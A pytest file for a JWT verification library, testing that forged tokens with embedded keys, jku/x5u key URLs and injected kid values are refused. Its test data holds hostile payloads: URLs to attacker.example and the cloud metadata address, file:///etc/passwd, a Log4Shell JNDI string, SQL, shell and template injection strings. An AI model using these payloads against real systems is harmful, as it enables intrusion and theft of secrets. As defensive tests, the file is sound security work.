"""Keys that a token brings along, or says where to find, or names in a strange way.

CVE-2018-0114 (embedded jwk), CVE-2026-27962 (embedded jwk/x5c), CVE-2026-48522 (jku, x5u), kid injection.
"""

import hmac
from base64 import b64encode
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding, load_pem_private_key

from gatepost import KeySet, Reason
from tests.attacks.forging import (
    ATTACKERS_KEY,
    EC,
    PUBLISHED,
    accepted,
    forge,
    hs,
    issued,
    issuers_header,
    refused,
    refused_as_jws,
)
from tests.verification.minting import access_claims

ATTACKERS_JWK = ATTACKERS_KEY.to_jwk()


def attackers_certificate() -> str:
    private: Any = load_pem_private_key(ATTACKERS_KEY.to_private_pem().encode(), None)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "issuer.example")])
    now = datetime(2026, 1, 1, tzinfo=UTC)
    builder = x509.CertificateBuilder(name, name, private.public_key(), 1, now, now + timedelta(days=9999))
    return b64encode(builder.sign(private, hashes.SHA256()).public_bytes(Encoding.DER)).decode()


@pytest.mark.parametrize(
    "jwk",
    [
        ATTACKERS_JWK,
        {**ATTACKERS_JWK, "kid": EC.kid},
        {name: value for name, value in ATTACKERS_JWK.items() if name in {"kty", "crv", "x", "y"}},
        {"kty": "oct", "k": ""},
        {},
        [],
        None,
        "",
        "https://attacker.example/jwk",
    ],
    ids=["whole", "named as the issuer's", "bare", "an empty secret", "{}", "[]", "null", "empty", "a URL"],
)
def test_embedded_jwk_cve_2018_0114_is_refused_whoever_signed(jwk: object) -> None:
    for kid in ({"kid": EC.kid}, {"kid": "attacker"}, {}):
        for sign in (ATTACKERS_KEY.sign, hs(b""), EC.sign):
            token = forge({"alg": "ES256", "jwk": jwk, **kid}, sign=sign)
            assert refused(token) is refused_as_jws(token) is Reason.MALFORMED


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("x5c", [attackers_certificate()]),
        ("x5c", []),
        ("x5c", None),
        ("x5c", "garbage"),
        ("x5t", "AQ"),
        ("x5t#S256", "AQ"),
        ("x5u", "https://attacker.example/certificate.pem"),
        ("jku", "https://attacker.example/jwks.json"),
        ("jku", "https://issuer.example@attacker.example/jwks.json"),
        ("jku", "http://169.254.169.254/latest/meta-data"),
        ("jku", "http://127.0.0.1:1/"),
        ("jku", "file:///etc/passwd"),
        ("jku", "ftp://attacker.example/jwks.json"),
        ("jku", 'data:application/json,{"keys":[]}'),
        ("jku", "gopher://attacker.example"),
        ("jku", "//attacker.example/jwks.json"),
        ("jku", ""),
        ("jku", None),
        ("jku", ["https://attacker.example/jwks.json"]),
        ("jwks", {"keys": [ATTACKERS_JWK]}),
        ("jwks_uri", "https://attacker.example/jwks.json"),
        ("epk", ATTACKERS_JWK),
        ("key", ATTACKERS_KEY.public.to_pem()),
        ("trust_chain", ["a.b.c"]),
        ("iss", "https://issuer.example"),
    ],
    ids=lambda value: value if isinstance(value, str) else type(value).__name__,
)
def test_jku_x5u_and_x5c_are_never_a_source_of_keys_and_never_fetched(name: str, value: object) -> None:
    for kid, reason in [(EC.kid, Reason.BAD_SIGNATURE), ("attacker", Reason.UNKNOWN_KEY)]:
        token = forge({"alg": "ES256", "kid": kid, name: value}, sign=ATTACKERS_KEY.sign)
        assert refused(token) is refused_as_jws(token) is reason
    # Real issuers send them; what the issuer signed is good, and they mean nothing.
    assert accepted(issued(header=issuers_header(**{name: value}))).subject == "alice"


# --- kid injection: a kid is opaque, and only ever looked up ---

KIDS = [
    "../../../../../../dev/null",
    "/dev/null",
    "..\\..\\windows\\win.ini",
    "file:///dev/null",
    "https://attacker.example/key",
    "' UNION SELECT 'AA' --",
    "x' OR '1'='1",
    "| id",
    "$(id)",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/a}",
    "__proto__",
    "constructor",
    "toString",
    "__class__",
    "keys",
    "*",
    ".*",
    "%s%n",
    "\0",
    "\r\nSet-Cookie: a=b",
    "\u202e",
    "😀",
    "",
    " ",
    "null",
    "None",
    "0",
    "attacker",
]


@pytest.mark.parametrize("kid", KIDS, ids=ascii)
def test_kid_injection_finds_no_key(kid: str) -> None:
    for sign in (ATTACKERS_KEY.sign, EC.sign, lambda text: hmac.digest(b"", text, "sha256")):
        token = forge({"alg": "ES256", "kid": kid}, sign=sign)
        assert refused(token) is refused_as_jws(token) is Reason.UNKNOWN_KEY
    empty_secret = forge({"alg": "HS256", "kid": kid}, sign=hs(b""))
    assert refused(empty_secret) is Reason.UNSUPPORTED_ALGORITHM


@pytest.mark.parametrize("kid", [f"{EC.kid} ", f" {EC.kid}", f"{EC.kid}\0", f"{EC.kid}".upper(), f"{EC.kid}"[:-1]])
def test_a_kid_is_compared_exactly(kid: str) -> None:
    assert refused(forge({"alg": "ES256", "kid": kid}, sign=EC.sign)) is Reason.UNKNOWN_KEY


@pytest.mark.parametrize("kid", [None, 0, 1, True, [], [EC.kid], {}, {"kid": EC.kid}, 1.5], ids=repr)
def test_a_kid_that_is_no_string_is_malformed(kid: object) -> None:
    token = forge({"alg": "ES256", "kid": kid}, sign=EC.sign)
    assert refused(token) is refused_as_jws(token) is Reason.MALFORMED


@pytest.mark.parametrize("length", [257, 1000, 3000])
def test_a_kid_that_is_too_long_is_malformed(length: int) -> None:
    token = forge({"alg": "ES256", "kid": "k" * length}, sign=EC.sign)
    assert refused(token) is refused_as_jws(token) is Reason.MALFORMED


def test_a_token_with_a_kid_never_falls_back_to_the_key_of_another_kid() -> None:
    only = KeySet([EC.public])
    token = forge({"alg": "ES256", "kid": "other"}, sign=EC.sign)
    assert refused(token, only) is refused_as_jws(token, only) is Reason.UNKNOWN_KEY
    assert accepted(forge({"alg": "ES256"}, sign=EC.sign), only).subject == "alice"


def test_unknown_kid_flood_is_refused_one_by_one() -> None:
    for number in range(300):
        token = forge({"alg": "ES256", "kid": f"flood-{number}"}, access_claims(), EC.sign)
        assert refused_as_jws(token, PUBLISHED) is Reason.UNKNOWN_KEY
